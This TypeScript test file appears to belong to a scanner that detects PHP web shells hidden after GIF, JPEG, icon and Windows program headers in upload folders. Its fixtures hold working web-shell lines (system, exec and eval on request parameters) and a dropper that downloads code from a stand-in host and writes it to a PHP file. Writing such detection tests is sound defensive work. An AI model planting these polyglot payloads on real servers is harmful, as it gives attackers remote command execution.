/**
 * Server-side code after an image or binary header is judged (issue 27: the header's NUL
 * bytes made the file binary, so a GIF89a-prefixed PHP shell was never read); programs and
 * archives are not read as pages.
 */
import { describe, expect, it } from 'vitest';
import { evaluateChange } from '../../src/findings/change-rules.js';
import { ruleText } from '../../src/findings/rule-budget.js';
import { addedFile, fileMeta } from '../support/change-facts.js';

const GIF_HEADER = Buffer.from([
  0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0xff, 0xff, 0xff,
  0x00, 0x00, 0x00, 0x21, 0xf9, 0x04, 0x01, 0x00, 0x00, 0x00, 0x00, 0x2c, 0x00, 0x00, 0x00, 0x00,
]);
const SHELL = Buffer.from("<?php system($_GET['c']); ?>");

const judge = (path: string, content: Buffer) => {
  const judged = ruleText(content, content.length);
  return evaluateChange(
    addedFile(path, judged.text, {
      current: fileMeta({ sizeBytes: content.length }),
      currentType: judged.type,
    }),
  );
};

describe('code after a binary header', () => {
  it('judges PHP after a GIF header with NUL bytes, wherever the file is', () => {
    const content = Buffer.concat([GIF_HEADER, SHELL]);
    expect(ruleText(content, content.length)).toMatchObject({
      type: 'image',
      codeAfterBytes: GIF_HEADER.length,
      text: SHELL.toString(),
    });
    for (const path of ['/var/www/html/uploads/avatar.php', '/var/www/html/uploads/avatar.gif'])
      expect(judge(path, content)[0]).toMatchObject({
        rule: expect.stringMatching(/shell/),
        severity: 'critical',
      });
  });

  it('judges PHP after a Windows program header, as after an image', () => {
    const pe = Buffer.alloc(0x60);
    pe.write('MZ', 0, 'latin1');
    pe.writeUInt32LE(0x40, 0x3c);
    pe.write('PE\0\0', 0x40, 'latin1');
    const content = Buffer.concat([pe, SHELL]);
    expect(ruleText(content, content.length)).toMatchObject({ type: 'pe', text: SHELL.toString() });
    // Named as nothing a Windows program would be disguised as: its code is what it is.
    expect(judge('/var/www/html/uploads/x.phar', content)[0]).toMatchObject({
      rule: expect.stringMatching(/shell/),
      severity: 'critical',
    });
  });

  it('judges a short closed block inside pixel data, and no open tag met by chance', () => {
    const pixels = (n: number) => Buffer.alloc(n, 0x91);
    const hidden = Buffer.concat([
      GIF_HEADER,
      pixels(40),
      Buffer.from('<?=exec($_GET[0]);?>( '),
      pixels(40),
    ]);
    expect(judge('/var/www/html/uploads/cat.gif', hidden)[0]).toMatchObject({
      rule: expect.stringMatching(/shell/),
      severity: 'critical',
    });
    // `<?=` and a few printable bytes, no close: compressed data, not code.
    const chance = Buffer.concat([GIF_HEADER, pixels(40), Buffer.from('<?=a1b2c3d'), pixels(40)]);
    expect(ruleText(chance, chance.length).text).toBeUndefined();
  });

  it('reads no code in an image without any, nor in a program or an archive', () => {
    const image = Buffer.concat([GIF_HEADER, Buffer.alloc(64, 0x11)]);
    expect(ruleText(image, image.length).text).toBeUndefined();
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), SHELL]);
    expect(ruleText(elf, elf.length).text).toBeUndefined();
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0]), SHELL]);
    expect(ruleText(zip, zip.length).text).toBeUndefined();
  });

  it('judges a short open tag in image data, and code past a header longer than the sample', () => {
    const tagged = Buffer.concat([
      GIF_HEADER,
      Buffer.alloc(40, 0x91),
      Buffer.from(
        "<? @fwrite(fopen('x.php','w'),file_get_contents('https://a.example/x.txt')); ?>",
      ),
      Buffer.alloc(40, 0x91),
    ]);
    expect(judge('/var/www/html/uploads/cat.gif', tagged)[0]).toMatchObject({
      severity: 'critical',
    });
    // A short open tag straight into a call (`<?fputs(`), as a JPEG's comment carries it.
    const called = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10]),
      Buffer.alloc(40, 0),
      Buffer.from(`<?fputs(fopen("fa.php","w"),"<?eval(\\$_POST[cmd]);?>")?>`),
      Buffer.alloc(40, 0),
    ]);
    expect(judge('/var/www/html/uploads/cat.jpg', called)[0]).toMatchObject({
      severity: 'critical',
    });
    // An icon of 70 KB, then the code: past the start the rules sample.
    const icon = Buffer.concat([
      Buffer.from([0, 0, 1, 0, 1, 0]),
      Buffer.alloc(70 * 1024, 0xff),
      SHELL,
    ]);
    const judged = ruleText(icon.subarray(0, 64 * 1024), icon.length, icon.subarray(-64 * 1024));
    expect(judged).toMatchObject({
      text: SHELL.toString(),
      codeAfterBytes: icon.length - SHELL.length,
    });
    // An XMP packet's `<?xpacket` in a JPEG is no short open tag.
    const xmp = Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe1, 0, 0]),
      Buffer.from(
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">',
      ),
      Buffer.alloc(64, 0),
    ]);
    expect(ruleText(xmp, xmp.length).text).toBeUndefined();
  });
});
